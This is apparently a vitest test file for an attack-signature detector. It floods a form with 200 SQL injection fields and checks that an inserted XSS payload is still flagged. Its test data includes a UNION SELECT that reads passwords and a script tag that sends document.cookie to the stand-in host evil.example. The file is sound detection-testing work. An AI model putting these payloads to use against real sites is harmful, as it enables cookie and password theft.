import { expect, it } from 'vitest';
import { findSignatures } from '../../src/attacks/find-signatures.ts';

const FIELDS = 200;
const SQL = "' UNION SELECT password FROM users-- ";
const SCRIPT = '<script>fetch("//evil.example/?c=" + document.cookie)</script>';

const form = (values: readonly string[]) => ({
  ...{ method: 'POST', path: '/', query: '', headers: {} },
  contentType: 'application/x-www-form-urlencoded',
  body: values.map((value, i) => `f${i}=${encodeURIComponent(value)}`).join('&'),
});
const typesOf = (values: readonly string[]) => [
  ...new Set(findSignatures(form(values)).matches.map(({ type }) => type)),
];
const flood = Array.from({ length: FIELDS }, (_, i) => `${i}${SQL}${i}`);

it('hundreds of hostile fields hide no attack of another type, wherever it stands', () => {
  expect(typesOf(flood)).toEqual(['sql_injection']);
  for (const place of [0, 70, FIELDS]) {
    expect(typesOf(flood.toSpliced(place, 0, SCRIPT)).toSorted()).toEqual(['sql_injection', 'xss']);
  }
});
